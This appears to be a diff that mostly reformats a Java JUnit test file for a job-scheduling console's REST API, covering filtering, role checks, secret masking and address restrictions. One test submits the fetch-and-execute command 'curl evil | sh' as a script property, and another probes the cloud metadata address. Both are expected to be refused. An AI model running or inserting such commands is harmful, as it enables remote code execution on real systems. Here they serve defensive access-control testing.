@@ -24,6 +24,7 @@ import java.util.Map;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.LinkedBlockingQueue;
 import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicInteger;
 import org.awaitility.Awaitility;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -61,7 +62,11 @@ class JobsTest {
 
     private static List<String> names(Answer answer) {
         assertThat(answer.status()).as(answer.body()).isEqualTo(200);
-        return answer.json().get("items").valueStream().map(each -> each.get("name").asString()).toList();
+        return answer.json()
+                .get("items")
+                .valueStream()
+                .map(each -> each.get("name").asString())
+                .toList();
     }
 
     @Test
@@ -75,7 +80,9 @@ class JobsTest {
         assertThat(names(guest.get(tree.api + "/jobs?text=blue"))).containsExactly("alpha");
         assertThat(names(guest.get(tree.api + "/jobs?text=of%20beta"))).containsExactly("beta");
         assertThat(names(guest.get(tree.api + "/jobs?status=CRASHED"))).containsExactly("broken");
-        assertThat(names(guest.get(tree.api + "/jobs?problem=true"))).contains("broken").doesNotContain("beta");
+        assertThat(names(guest.get(tree.api + "/jobs?problem=true")))
+                .contains("broken")
+                .doesNotContain("beta");
         assertThat(names(guest.get(tree.api + "/jobs?sort=-items&size=1"))).containsExactly("beta");
     }
 
@@ -85,10 +92,17 @@ class JobsTest {
         assertThat(sort.status()).isEqualTo(400);
         assertThat(sort.header("Content-Type")).contains("application/problem+json");
         assertThat(sort.json().get("detail").asString()).contains("colour", "nextFire");
-        assertThat(guest.get(tree.api + "/jobs?size=100000").json().get("detail").asString()).contains("1 to 1000");
+        assertThat(guest.get(tree.api + "/jobs?size=100000")
+                        .json()
+                        .get("detail")
+                        .asString())
+                .contains("1 to 1000");
         assertThat(guest.get(tree.api + "/jobs/none").json().get("type").asString())
                 .isEqualTo("urn:elasticjob:problem:not-found");
-        assertThat(guest.get("/api/v1/registries/none/jobs").json().get("detail").asString())
+        assertThat(guest.get("/api/v1/registries/none/jobs")
+                        .json()
+                        .get("detail")
+                        .asString())
                 .contains("'none'");
         assertThat(guest.get(tree.api + "/jobs?page=x").status()).isEqualTo(400);
         Answer unknown = operator.send("PUT", tree.api + "/jobs/alpha/state", "{\"enabled\":true,\"enabeld\":true}");
@@ -114,9 +128,11 @@ class JobsTest {
 
     @Test
     void a_job_is_triggered_disabled_enabled_shut_down_and_removed() {
-        assertThat(operator.send("POST", tree.api + "/jobs/alpha/runs", null).status()).isEqualTo(202);
+        assertThat(operator.send("POST", tree.api + "/jobs/alpha/runs", null).status())
+                .isEqualTo(202);
         assertThat(tree.exists("/alpha/trigger/10.0.0.1@-@101")).isTrue();
-        assertThat(operator.send("POST", tree.api + "/jobs/broken/runs", null).status()).isEqualTo(422);
+        assertThat(operator.send("POST", tree.api + "/jobs/broken/runs", null).status())
+                .isEqualTo(422);
 
         operator.send("PUT", tree.api + "/jobs/alpha/state", Map.of("enabled", false));
         assertThat(tree.text("/alpha/servers/10.0.0.2")).contains("DISABLED");
@@ -135,7 +151,8 @@ class JobsTest {
         assertThat(tree.exists("/alpha/instances/10.0.0.2@-@102")).isFalse();
         admin.send("DELETE", tree.api + "/jobs/alpha/servers/10.0.0.1", null);
         assertThat(tree.exists("/alpha/servers/10.0.0.1")).isFalse();
-        assertThat(admin.send("DELETE", tree.api + "/jobs/alpha", null).status()).isEqualTo(204);
+        assertThat(admin.send("DELETE", tree.api + "/jobs/alpha", null).status())
+                .isEqualTo(204);
         assertThat(tree.exists("/alpha/config")).isFalse();
     }
 
@@ -143,7 +160,10 @@ class JobsTest {
     void servers_are_listed_and_acted_on_over_all_jobs() {
         Answer stale = guest.get(tree.api + "/servers?stale=true");
         assertThat(stale.json().get("items").get(0).get("server").asString()).isEqualTo("10.0.0.9");
-        assertThat(guest.get(tree.api + "/servers?search=0.0.1").json().get("total").asInt())
+        assertThat(guest.get(tree.api + "/servers?search=0.0.1")
+                        .json()
+                        .get("total")
+                        .asInt())
                 .isEqualTo(1);
         assertThat(names(guest.get(tree.api + "/servers/10.0.0.1/jobs"))).containsExactly("alpha", "beta", "北京-job");
         operator.send("PUT", tree.api + "/servers/10.0.0.1/state", Map.of("enabled", false));
@@ -168,7 +188,10 @@ class JobsTest {
         operator.send(
                 "POST", tree.api + "/bulk/servers", Map.of("operation", "DISABLE", "servers", List.of("10.0.0.2")));
         assertThat(tree.text("/alpha/servers/10.0.0.2")).contains("DISABLED");
-        assertThat(admin.send("POST", tree.api + "/bulk/servers/removal", Map.of("servers", List.of("10.0.0.9", "1.1.1.1")))
+        assertThat(admin.send(
+                                "POST",
+                                tree.api + "/bulk/servers/removal",
+                                Map.of("servers", List.of("10.0.0.9", "1.1.1.1")))
                         .json()
                         .get("failed")
                         .asInt())
@@ -227,8 +250,8 @@ class JobsTest {
         Answer read = guest.get(path);
         assertThat(read.body()).contains("email.password").doesNotContain("hidden-value");
         assertThat(guest.get(path + "/text").body()).doesNotContain("hidden-value");
-        Answer saved =
-                operator.send("PUT", path, read.body(), Map.of("If-Match", read.header("ETag").orElseThrow()));
+        Answer saved = operator.send(
+                "PUT", path, read.body(), Map.of("If-Match", read.header("ETag").orElseThrow()));
         assertThat(saved.status()).as(saved.body()).isEqualTo(200);
         assertThat(tree.text("/北京-job/config").orElseThrow()).contains("hidden-value");
     }
@@ -238,12 +261,13 @@ class JobsTest {
         String path = tree.api + "/jobs/%E5%8C%97%E4%BA%AC-job/configuration";
         String version = guest.get(path).header("ETag").orElseThrow();
         Map<String, String> version1 = Map.of("If-Match", version);
-        Map<String, Object> evil = Map.of(
-                "props", Map.of("email.password", "******", "script.command.line", "curl evil | sh"));
+        Map<String, Object> evil =
+                Map.of("props", Map.of("email.password", "******", "script.command.line", "curl evil | sh"));
         Answer refused = operator.send("PATCH", path, evil, version1);
         assertThat(refused.status()).isEqualTo(403);
         assertThat(refused.json().get("detail").asString()).contains("script.command.line", "ADMIN");
-        assertThat(operator.send("PATCH", path, Map.of("props", Map.of()), version1).status())
+        assertThat(operator.send("PATCH", path, Map.of("props", Map.of()), version1)
+                        .status())
                 .isEqualTo(403);
         assertThat(operator.send("PATCH", path, Map.of("props", Map.of("http.uri", "http://a.example")), version1)
                         .status())
@@ -282,19 +306,20 @@ class JobsTest {
         tree.put(Map.of("/alpha/servers/127.0.0.1", "ENABLED", "/alpha/servers/169.254.169.254", "ENABLED"));
         try (ServerSocket worker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
             CompletableFuture<String> asked = CompletableFuture.supplyAsync(() -> answerOnce(worker));
-            Answer dump = operator.get(
-                    tree.api + "/jobs/alpha/servers/127.0.0.1/dump?port=" + worker.getLocalPort());
+            Answer dump = operator.get(tree.api + "/jobs/alpha/servers/127.0.0.1/dump?port=" + worker.getLocalPort());
             assertThat(dump.body()).isEqualTo("/alpha | x\n");
             assertThat(asked.get(LONGEST_WAIT.toSeconds(), TimeUnit.SECONDS)).isEqualTo("dump@alpha");
         }
-        assertThat(operator.get(tree.api + "/jobs/alpha/servers/127.0.0.2/dump?port=9999").status())
+        assertThat(operator.get(tree.api + "/jobs/alpha/servers/127.0.0.2/dump?port=9999")
+                        .status())
                 .isEqualTo(404);
         assertThat(operator.get(tree.api + "/jobs/alpha/servers/169.254.169.254/dump?port=8080")
                         .json()
                         .get("type")
                         .asString())
                 .isEqualTo("urn:elasticjob:problem:forbidden-address");
-        assertThat(operator.get(tree.api + "/jobs/alpha/servers/127.0.0.1/dump?port=22").status())
+        assertThat(operator.get(tree.api + "/jobs/alpha/servers/127.0.0.1/dump?port=22")
+                        .status())
                 .isEqualTo(400);
     }
 
@@ -318,6 +343,7 @@ class JobsTest {
         HttpResponse<InputStream> response = guest.http().send(request, HttpResponse.BodyHandlers.ofInputStream());
         assertThat(response.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/event-stream");
         LinkedBlockingQueue<String> lines = new LinkedBlockingQueue<>();
+        AtomicInteger servers = new AtomicInteger();
         try (InputStream body = response.body()) {
             Thread reader = new Thread(() -> new BufferedReader(new InputStreamReader(body, StandardCharsets.UTF_8))
                     .lines()
@@ -326,7 +352,7 @@ class JobsTest {
             reader.setDaemon(true);
             reader.start();
             Awaitility.await().atMost(LONGEST_WAIT).until(() -> {
-                tree.put(Map.of("/alpha/servers/10.0.1." + lines.size() + System.nanoTime() % 1000, "ENABLED"));
+                tree.put(Map.of("/alpha/servers/10.0.1." + servers.incrementAndGet(), "ENABLED"));
                 String line = lines.poll(1, TimeUnit.SECONDS);
                 return line != null && line.startsWith("data:") && line.contains("\"alpha\"");
             });
@@ -349,15 +375,17 @@ class JobsTest {
     void the_description_of_the_api_has_every_endpoint_with_its_role() {
         JsonNode api = guest.get("/api/v1/openapi").json();
         Access.rules().stream()
-                .filter(rule -> rule.path().startsWith("/api/v1") && !rule.path().contains("openapi"))
+                .filter(rule ->
+                        rule.path().startsWith("/api/v1") && !rule.path().contains("openapi"))
                 .forEach(rule -> {
-                    JsonNode operation =
-                            api.at("/paths/" + rule.path().replace("/", "~1") + "/"
-                                    + rule.method().name().toLowerCase(Locale.ROOT));
+                    JsonNode operation = api.at("/paths/" + rule.path().replace("/", "~1") + "/"
+                            + rule.method().name().toLowerCase(Locale.ROOT));
                     assertThat(operation.isMissingNode()).as(rule.toString()).isFalse();
                     assertThat(operation.get("summary").asString()).isEqualTo(rule.summary());
-                    rule.role().ifPresent(role -> assertThat(operation.get("description").asString())
-                            .contains(role.name()));
+                    rule.role()
+                            .ifPresent(role -> assertThat(
+                                            operation.get("description").asString())
+                                    .contains(role.name()));
                 });
     }
 }
